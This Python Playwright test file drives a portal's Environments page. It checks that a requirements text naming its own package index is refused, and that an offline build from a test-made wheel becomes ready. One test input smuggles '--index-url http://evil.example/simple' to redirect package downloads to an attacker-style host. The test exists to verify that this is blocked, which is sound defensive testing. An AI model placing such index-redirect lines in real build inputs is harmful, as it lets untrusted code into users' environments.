"""The portal's Environments page (real server, Chromium): a requirements text typed in the
browser is built by a build job (offline, from a wheel the test made) and listed ready with its
versions; a request naming its own index is refused with the server's reason."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest

from tests.environments.wheels import make_wheel
from tests.server_fixture import start_server
from tests.web.conftest import Portal, open_portal, screenshot


@pytest.fixture(scope="module")
def env_portal(playwright_instance: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Portal]:
    base = tmp_path_factory.mktemp("envportal")
    make_wheel(base / "wheels", "corraltestpkg", "1.0", "VALUE = 42\n")
    server = start_server(base / "home", extra_env={"CORRAL_ENV_FIND_LINKS": str(base / "wheels")})
    with open_portal(playwright_instance, server, base) as portal:
        yield portal


def test_build_an_environment_from_the_browser(env_portal: Portal) -> None:
    page = env_portal.login("ann", path="/environments")
    page.wait_for_selector("#environments-list")
    page.fill("#env-form input[name=name]", "sneaky")
    page.fill("#env-form textarea[name=source]", "--index-url http://evil.example/simple\nrequests\n")
    page.click("#env-form button[type=submit]")
    page.wait_for_selector("#env-status:has-text('refused')")
    assert "not allowed" in page.locator("#env-status").inner_text()

    page.fill("#env-form input[name=name]", "webenv")
    page.fill("#env-form textarea[name=source]", "corraltestpkg==1.0\n")
    page.click("#env-form button[type=submit]")
    page.wait_for_selector("#env-status:has-text('webenv@1: building')")
    page.wait_for_selector("#environments-list tr:has-text('webenv'):has-text('@1')", timeout=90_000)
    page.click("#environments-list a[href='/environments?name=webenv']")
    page.wait_for_selector("#environment-detail code")
    detail = page.locator("#environment-detail").inner_text()
    assert "webenv@1" in detail and "ready" in detail and "environment: webenv" in detail
    screenshot(page, "environments")
    assert page.js_errors == []
